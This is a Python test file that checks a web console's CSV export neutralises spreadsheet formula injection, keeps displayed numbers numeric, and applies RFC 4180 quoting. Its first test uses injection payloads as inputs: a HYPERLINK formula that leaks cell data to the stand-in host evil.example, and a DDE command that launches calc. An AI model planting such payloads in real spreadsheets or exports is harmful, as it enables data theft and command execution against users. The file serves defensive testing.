"""The console's "Download CSV" of a table as shown: names, titles and notes come from other users and from
imported files, so a cell a spreadsheet would run as a formula is written as text, while the numbers the tables
show stay numbers. The console's own module runs in Node (skipped where Node is missing)."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

import server

CSV_MODULE = Path(server.__file__).parent / "static" / "console" / "js" / "csv.js"
NODE = shutil.which("node")

pytestmark = pytest.mark.skipif(NODE is None, reason="Node is not installed")


def _fields(texts: list[str]) -> list[str]:
    script = (
        f"import {{ csvField }} from {json.dumps(CSV_MODULE.as_uri())};\n"
        f"console.log(JSON.stringify({json.dumps(texts)}.map(csvField)));\n"
    )
    assert NODE is not None
    run = subprocess.run([NODE, "--input-type=module", "-e", script], capture_output=True, text=True, timeout=30)
    assert run.returncode == 0, run.stderr
    fields: list[str] = json.loads(run.stdout)
    return fields


def test_given_cells_that_start_a_formula_when_written_then_they_are_text() -> None:
    # Given labeler, vendor and project names a vendor manager or an imported file chose
    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r\n=1+1",
        "  =1+1",
    ]

    # When the table's CSV is written
    fields = _fields(names)

    # Then each starts with a quote mark, which spreadsheets show as text
    assert fields == [
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'=1+1",
        "'=1+1",
        "'=1+1",
    ]


def test_given_numbers_as_the_tables_show_them_then_they_stay_numbers() -> None:
    shown = ["-3", "+12", "-1,234.5", "-$12.30", "-3.5%", "1e-3", "0.25"]

    assert _fields(shown) == ["-3", "+12", '"-1,234.5"', "-$12.30", "-3.5%", "1e-3", "0.25"]


def test_given_quotes_commas_line_breaks_and_unicode_then_fields_keep_them_rfc4180() -> None:
    texts = ['say "hi"', "a,b", "two\nlines", "Zoë \u2013 東京 ✓", "\u2013"]

    assert _fields(texts) == ['"say ""hi"""', '"a,b"', "two lines", "Zoë \u2013 東京 ✓", "\u2013"]
